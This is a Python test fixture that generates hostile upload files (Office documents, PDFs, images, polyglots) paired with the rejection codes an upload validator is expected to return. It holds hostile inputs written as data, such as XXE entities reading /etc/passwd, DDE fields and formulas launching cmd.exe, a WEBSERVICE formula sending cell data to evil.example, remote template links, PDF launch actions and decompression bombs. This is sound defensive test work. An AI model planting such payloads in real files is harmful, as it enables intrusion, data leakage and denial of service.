"""The hostile folder: each file with the code it must be refused with. Written anew by every run."""

from __future__ import annotations

import os
import zlib
from collections.abc import Callable
from pathlib import Path

from tests.uploads import builders as b
from tests.uploads.builders import MB, noise
from tests.uploads.hostile_zips import ZIPS

MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
EXTERNAL_ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = b"<!DOCTYPE l [<!ENTITY a0 'ha'>%s]>" % b"".join(
    b"<!ENTITY a%d '%s'>" % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 10)
)


def word_with(name: str, content_type: str = "", kind: str = "", data: bytes = b"x" * 64) -> bytes:
    links = [(kind, name, False)] if kind else []
    types = b.override(f"word/{name}", content_type) if content_type else ""
    return b.docx(links=links, types=types, more=[(f"word/{name}", data)])


def word_linked(kind: str, target: str, external: bool = True) -> bytes:
    return b.docx(links=[(kind, target, external)])


def word_field(*pieces: str, result: str = "0") -> bytes:
    return b.docx(f"<w:p>{b.field(*pieces, result=result)}</w:p>")


def sheet_part(name: str, content_type: str, data: bytes = b"<x/>") -> bytes:
    types = b.override(f"xl/{name}", f"application/vnd.openxmlformats-officedocument.{content_type}")
    return b.xlsx(types=types, more=[(f"xl/{name}", data)])


def sheet_linked(kind: str, target: str) -> bytes:
    return b.xlsx(more=[("xl/worksheets/_rels/sheet1.xml.rels", b.relationships((kind, target, False)))])


def sheet_formula(formula: str) -> bytes:
    return b.xlsx(f'<row r="1"><c r="A1"><f>{formula}</f><v>0</v></c></row>')


def in_object_stream(inside: bytes, **options) -> bytes:
    return b.modern_pdf(b.object_stream(inside, **options))


SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ASCII_HEX = b.stream(b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", b"00>")
PREDICTED = b.object_stream(SCRIPT).replace(b"/Filter", b"/DecodeParms << /Predictor 12 >> /Filter")
TORN = b.stream(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(b"10 0 " + b" " * 5_000)[:-4] + b"torn")
UNREAD_OBJSTM = b.pdf(b"<< /Type /ObjStm /N 1 /First 4 /Length 9 >>\nstream\r10 0 (abc)\nendstream")

XML: dict[str, tuple[str, Callable[[], bytes]]] = {
    "xxe.docx": ("doctype", lambda: b.docx(more=[("word/footer1.xml", EXTERNAL_ENTITY + b"<x>&e;</x>")])),
    "xxe-utf16.docx": (
        "doctype",
        lambda: b.docx(more=[("customXml/item1.xml", "<!DOCTYPE x><x/>".encode("utf-16"))]),
    ),
    "xxe-relations.docx": (
        "doctype",
        lambda: b.docx(more=[("word/_rels/x.xml.rels", EXTERNAL_ENTITY + b"<x/>")]),
    ),
    "xxe-unnamed.docx": ("doctype", lambda: b.docx(more=[("word/media/a.bin", b" <!DOCTYPE svg><svg/>")])),
    "xxe.xlsx": ("doctype", lambda: b.xlsx(more=[("xl/sharedStrings.xml", EXTERNAL_ENTITY + b"<x/>")])),
    "laughs.docx": ("doctype", lambda: b.docx(more=[("word/styles.xml", LAUGHS + b"<l>&a9;</l>")])),
    "deep.docx": ("too_complex", lambda: b.docx("<w:sdt>" * 500 + "</w:sdt>" * 500)),
    "elements.docx": ("too_complex", lambda: b.docx("<w:p/>" * 900_000, more=[("word/media/a", noise(MB))])),
    "one-tag.docx": (
        "too_complex",
        lambda: b.docx(f'<w:p w:x="{">" * (30 * MB)}"/>', more=[("word/media/a", noise(MB))]),
    ),
    "one-comment.docx": (
        "too_complex",
        lambda: b.docx(f"<!--{'x' * (30 * MB)}-->", more=[("word/media/a", noise(MB))]),
    ),
    "not-well-formed.docx": ("damaged", lambda: b.docx("<w:p>")),
    "codec.docx": ("damaged", lambda: b.docx(more=[("a.xml", b'<?xml version="1.0" encoding="zip"?><a/>')])),
}

ACTIVE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "docm.docx": (
        "macro",
        lambda: b.docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "macro-by-name.docx": ("macro", lambda: word_with("vbaProject.bin")),
    "macro-by-type.docx": ("macro", lambda: word_with("a.bin", "application/vnd.ms-office.vbaProject")),
    "macro-by-relation.docx": (
        "macro",
        lambda: word_with("a.bin", kind=f"{MICROSOFT}/vbaProject"),
    ),
    "ribbon.docx": (
        "macro",
        lambda: word_linked(f"{MICROSOFT}/ui/extensibility", "u.xml"),
    ),
    "macro-sheet.xlsx": ("macro", lambda: sheet_part("macrosheets/sheet2.xml", "x+xml")),
    "macro-sheet-by-type.xlsx": ("macro", lambda: sheet_part("s2.xml", "vnd.ms-excel.macrosheet+xml")),
    "xlsm.xlsx": ("macro", lambda: b.xlsx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
    "ole-by-place.docx": ("embedded", lambda: word_with("embeddings/a.bin")),
    "ole-by-type.docx": (
        "embedded",
        lambda: word_with("a.bin", "application/vnd.openxmlformats-officedocument.oleObject"),
    ),
    "ole-by-relation.docx": ("embedded", lambda: word_linked("oleObject", "a.bin", external=False)),
    "ole-by-content.docx": ("embedded", lambda: word_with("media/image1.png", data=b.ole("Package"))),
    "zip-in-zip.docx": ("embedded", lambda: word_with("media/image1.png", data=b.docx())),
    "program-inside.docx": ("embedded", lambda: word_with("media/image1.png", data=b"MZ\x90\x00" * 20)),
    "photo-with-place.docx": (
        "picture_inside",
        lambda: word_with("media/image1.tif", data=b"II*\x00\x08\x00\x00\x00 GPS N39.9042"),
    ),
    "activex.docx": ("embedded", lambda: word_linked("control", "activeX/activeX1.xml", external=False)),
    "html-chunk.docx": ("embedded", lambda: word_linked("aFChunk", "chunk.html", external=False)),
    "add-in.docx": ("embedded", lambda: word_with("webextensions/taskpanes.xml", data=b"<x/>")),
    "template-external.docx": (
        "external",
        lambda: word_linked("attachedTemplate", "https://evil.example/t.dotm"),
    ),
    "template-file.docx": ("external", lambda: word_linked("attachedTemplate", "file:///C:/t.dotm")),
    "image-external.docx": ("external", lambda: word_linked("image", "http://evil.example/a.png")),
    "image-unmarked.docx": (
        "external",
        lambda: word_linked("image", "\\\\10.0.0.1\\a\\a.png", external=False),
    ),
    "ole-link.docx": ("embedded", lambda: word_linked("oleObject", "mhtml:http://evil.example/x.html")),
    "frame.docx": ("external", lambda: word_linked("frame", "http://evil.example/f.html")),
    "unknown-external.docx": ("external", lambda: word_linked("somethingNew", "http://evil.example/")),
    "vml-image.docx": (
        "external",
        lambda: b.docx('<w:p><w:r><w:pict><v:imagedata src="//evil/a.png"/></w:pict></w:r></w:p>'),
    ),
    "vml-web-image.docx": (
        "external",
        lambda: b.docx('<w:p><w:r><w:pict><v:fill src="http://evil/a.png"/></w:pict></w:r></w:p>'),
    ),
    "workbook-link.xlsx": (
        "external",
        lambda: sheet_linked("externalLink", "externalLink1.xml"),
    ),
    "connection.xlsx": ("external", lambda: sheet_linked("connections", "connections.xml")),
    "link-file.docx": ("link", lambda: word_linked("hyperlink", "file:///etc/passwd")),
    "link-share.docx": ("link", lambda: word_linked("hyperlink", "\\\\10.0.0.1\\share")),
    "link-program.docx": ("link", lambda: word_linked("hyperlink", "ms-msdt:/id PCWDiagnostic")),
    "link-script.docx": ("link", lambda: word_linked("hyperlink", " JavaScript:alert(1)")),
    "link-field.docx": ("link", lambda: word_field(' HYPERLINK \\o "看" ', '"file://10.0.0.1/a" ')),
    "dde.docx": ("field", lambda: word_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    "dde-split.docx": ("field", lambda: word_field(" D", "DE", "AU<!-- -->", "TO", ' cmd "/k"')),
    "dde-lower.docx": ("field", lambda: word_field('dde excel "a" "b"')),
    "dde-deleted.docx": (
        "field",
        lambda: word_field("<w:del><w:r><w:delInstrText>DDE x y</w:delInstrText></w:r></w:del>"),
    ),
    "dde-nested.docx": ("field", lambda: word_field("IF 1 = 1 ", b.field("DDEAUTO cmd"), ' "" ""')),
    "dde-computed.docx": ("field", lambda: word_field(b.field("QUOTE 68 68 69", result=""), " cmd")),
    "dde-by-result.docx": ("field", lambda: word_field('"', b.field("QUOTE 1", result="DDE"), " cmd")),
    "dde-simple.docx": ("field", lambda: b.docx('<w:p><w:fldSimple w:instr=" DDEAUTO cmd /k"/></w:p>')),
    "dde-computed-simple.docx": ("field", lambda: word_field('<w:fldSimple w:instr="QUOTE 68"/>', " cmd")),
    "dde-open.docx": ("field", lambda: b.docx(f"<w:p>{b.mark('begin')}{b.instruction('DDE a b')}</w:p>")),
    "dde-loose.docx": ("field", lambda: b.docx(f"<w:p>{b.instruction('DDEAUTO a b')}</w:p>")),
    "dde-padded.docx": ("field", lambda: word_field(" " * 9000, "DDEAUTO cmd")),
    "dde-strict.docx": (
        "field",
        lambda: b.docx(
            '<f:p xmlns:f="http://purl.oclc.org/ooxml/wordprocessingml/main">'
            '<f:fldSimple f:instr="DDE a b"/></f:p>'
        ),
    ),
    "dde-header.docx": (
        "field",
        lambda: b.docx(more=[("word/header1.xml", b.word_document(f"<w:p>{b.field('DDE a b')}</w:p>"))]),
    ),
    "include-text.docx": ("field", lambda: word_field('INCLUDETEXT "\\\\\\\\10.0.0.1\\\\a"')),
    "include-picture.docx": ("field", lambda: word_field('INCLUDEPICTURE "http://evil.example/a.png" \\d')),
    "macro-button.docx": ("field", lambda: word_field("MACROBUTTON AutoOpen 点击")),
    "fields-deep.docx": (
        "too_complex",
        lambda: b.docx(f"<w:p>{(b.mark('begin') + b.instruction('IF ')) * 50}</w:p>"),
    ),
    "dde.xlsx": ("formula", lambda: sheet_formula("cmd|'/c calc'!A0")),
    "web.xlsx": ("formula", lambda: sheet_formula('_xlfn.WEBSERVICE("http://evil.example/"&amp;A2)')),
    "long-formula.xlsx": ("too_complex", lambda: sheet_formula("1+" * 5000 + "1")),
    "row-million.xlsx": ("sheet_size", lambda: b.xlsx('<row r="1048576"/>')),
    "cell-million.xlsx": ("sheet_size", lambda: b.xlsx('<row><c r="A1048576"><v>1</v></c></row>')),
    "column-last.xlsx": ("sheet_size", lambda: b.xlsx('<row r="1"><c r="XFD1"><v>1</v></c></row>')),
    "column-strange.xlsx": ("sheet_size", lambda: b.xlsx('<row r="1"><c r="AAAAAAAA1"/></row>')),
}


PDFS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "script.pdf": ("active", lambda: b.pdf(SCRIPT)),
    "script-escaped.pdf": ("active", lambda: b.pdf(b"<< /S /J#61v#61Script /JS (1) >>")),
    "script-packed.pdf": ("active", lambda: in_object_stream(SCRIPT)),
    "script-packed-late.pdf": ("active", lambda: in_object_stream(SCRIPT, pad=3 * MB)),
    "script-packed-cut.pdf": ("active", lambda: in_object_stream(SCRIPT, pad=256 * 1024 - 21)),
    "script-packed-unnamed.pdf": ("active", lambda: in_object_stream(SCRIPT, name=b"/Type /Metadata")),
    "script-packed-escaped.pdf": ("active", lambda: in_object_stream(b"<< /S /Java#53cript >>")),
    "script-packed-oddly.pdf": ("too_complex", lambda: b.modern_pdf(ASCII_HEX)),
    "script-packed-hidden.pdf": ("too_complex", lambda: UNREAD_OBJSTM),
    "script-packed-broken.pdf": (
        "damaged",
        lambda: b.modern_pdf(b.stream(b"/Type /ObjStm /Filter /FlateDecode", b"nothing packed")),
    ),
    "script-packed-predicted.pdf": ("too_complex", lambda: b.modern_pdf(PREDICTED)),
    "script-packed-torn.pdf": ("damaged", lambda: b.modern_pdf(TORN)),
    "launch.pdf": ("active", lambda: b.pdf(b"<< /S /Launch /F (cmd.exe) >>")),
    "attachment.pdf": ("active", lambda: b.pdf(b.stream(b"/Type /EmbeddedFile", b"MZ"))),
    "submit.pdf": ("active", lambda: b.pdf(b"<< /S /SubmitForm /F (http://evil.example) >>")),
    "remote.pdf": ("active", lambda: b.pdf(b"<< /S /GoToR /F (\\\\\\\\10.0.0.1\\\\a) >>")),
    "xfa.pdf": ("active", lambda: b.pdf(b"<< /XFA [ (a) 5 0 R ] >>")),
    "password.pdf": ("password", lambda: b.pdf(b"<< /Filter /Standard >>", trailer=b"/Encrypt 4 0 R")),
    "pages-600.pdf": ("pages", lambda: b.pdf(pages=600)),
    "bomb.pdf": ("expansion", lambda: in_object_stream(b"0", pad=60 * MB)),
    "streams.pdf": ("too_complex", lambda: b.pdf(b"stream\n" * 25_000)),
    "slashes.pdf": ("too_complex", lambda: b.pdf(b"/" * (19 * MB))),
    "late-header.pdf": ("polyglot", lambda: b"GIF89a\n" + b.pdf()),
    "trailing-zip.pdf": ("polyglot", lambda: b.pdf() + b.docx()),
    "trailing-page.pdf": ("polyglot", lambda: b.pdf() + b"<html><script>alert(1)</script></html>"),
    "zip-around.pdf": ("polyglot", lambda: _zip_around(b.pdf(b.stream(b"", b.docx())))),
    "truncated.pdf": ("damaged", lambda: b.pdf()[:-60]),
    "no-table.pdf": ("damaged", lambda: b"%PDF-1.4\n" + b"x" * 50 + b"\nstartxref\n12\n%%EOF\n"),
    "version.pdf": ("damaged", lambda: b.pdf().replace(b"%PDF-1.4", b"%PDF-x.y")),
}


def _zip_around(data: bytes) -> bytes:
    """The zip in the PDF says that all the rest of the PDF is its comment."""
    end = data.rindex(b"PK\x05\x06")
    return b.patched(data, end + 20, "<H", len(data) - end - 22)


def jpeg_of(*pieces: bytes) -> bytes:
    return b"\xff\xd8" + b"".join(pieces) + b"\xff\xd9"


PICTURES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "bomb.jpg": ("pixels", lambda: b.jpeg(width=65_500, height=65_500)),
    "wide.jpg": ("pixels", lambda: b.jpeg(width=30_000, height=10)),
    "bomb.png": ("pixels", lambda: b.png(width=100_000, height=100_000, pixels=b"\x00" * MB)),
    "tall.png": ("pixels", lambda: b.png(width=1, height=30_000, pixels=b"\x00")),
    "no-size.png": ("damaged", lambda: b.png(width=0, height=8, pixels=b"")),
    "with-zip.jpg": ("polyglot", lambda: b.jpeg(after=b.docx())),
    "with-script.jpg": ("polyglot", lambda: b.jpeg(after=b"<script>alert(1)</script>")),
    "with-zip.png": ("polyglot", lambda: b.png(after=b.docx())),
    "truncated.jpg": ("damaged", lambda: b.jpeg()[:-2]),
    "cut-segment.jpg": ("damaged", lambda: b.jpeg()[:60]),
    "short-frame.jpg": (
        "damaged",
        lambda: jpeg_of(b.segment(0xC0, b"\x08"), b.segment(0xDA, b"")),
    ),
    "no-frame.jpg": ("damaged", lambda: jpeg_of(b.segment(0xDA, b""), b"x")),
    "late-frame.jpg": (
        "damaged",
        lambda: jpeg_of(b.segment(0xDA, b""), b"x", b.jpeg()[2:]),
    ),
    "strange-marker.jpg": ("damaged", lambda: b.jpeg(b.segment(0xF7, b"x"))),
    "tiny-length.jpg": ("damaged", lambda: b.jpeg(b"\xff\xfe\x00\x01")),
    "between.jpg": ("damaged", lambda: b.jpeg(b"no marker")),
    "no-marker.jpg": ("damaged", lambda: b.jpeg(b"\x00" + b.segment(0xFE, b"")[1:])),
    "segments.jpg": ("too_complex", lambda: b.jpeg(b.segment(0xFE, b"") * 4_000_000)),
    "truncated.png": ("damaged", lambda: b.png()[:-12]),
    "checksum.png": ("damaged", lambda: b.png().replace(b"IDAT", b"IDAU", 1)),
    "flipped.png": ("damaged", lambda: b.png(b.chunk(b"tEXt", b"abc")).replace(b"abc", b"abd")),
    "no-picture.png": ("damaged", lambda: b.png()[:33] + b.chunk(b"IEND", b"")),
    "critical.png": ("damaged", lambda: b.png(b.chunk(b"EVIL", b"x"))),
    "no-data.png": ("damaged", lambda: b"\x89PNG\r\n\x1a\n" + b.chunk(b"IEND", b"")),
    "two-headers.png": ("damaged", lambda: b.png(b.png()[8:33])),
    "chunks.png": ("too_complex", lambda: b.png(b.chunk(b"tEXt", b"") * 1_000_000)),
}

OTHERS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "empty.docx": ("empty", lambda: b""),
    "empty.pdf": ("empty", lambda: b""),
    "old.doc": ("legacy", b.old_doc),
    "old-renamed.docx": ("legacy", b.old_doc),
    "old.xls": ("legacy", b.old_xls),
    "old.wps": ("wps", lambda: b.ole("Root Entry", "WpsDocument")),
    "password.docx": ("password", lambda: b.ole("Root Entry", "EncryptionInfo", "EncryptedPackage")),
    "page.docx": ("unknown", lambda: b"<html><script>alert(1)</script></html>"),
    "vector.png": ("unknown", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "text.docx": ("unknown", "对照检查".encode),
    "one-byte.pdf": ("unknown", lambda: b"%"),
    "program.jpg": ("unwanted", lambda: b"MZ\x90\x00" + b"\x00" * 200),
    "archive.docx": ("unwanted", lambda: b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100),
    "animation.png": ("unwanted", lambda: b"GIF89a" + b"\x00" * 50),
    "phone.jpg": ("heic", lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 40),
    "picture.docx": ("mismatch", b.png),
    "document.pdf": ("mismatch", b.docx),
    "paper.docx": ("mismatch", b.pdf),
    "table.docx": ("mismatch", b.xlsx),
    "picture.exe": ("mismatch", b.jpeg),
}

SPARSE = {"300mb.docx": ("too_large", 300 * MB), "300mb.pdf": ("too_large", 300 * MB)}

FILES = ZIPS | XML | ACTIVE | PDFS | PICTURES | OTHERS
EXPECTED = {name: code for name, (code, _) in (FILES | SPARSE).items()}


def write_folder(folder: Path) -> None:
    """Write every hostile file; the huge ones have holes and take no room."""
    for name, (_, build) in FILES.items():
        (folder / name).write_bytes(build())
    for name, (_, size) in SPARSE.items():
        with (folder / name).open("wb") as file:
            file.write(b"PK\x03\x04")
            os.truncate(file.fileno(), size)
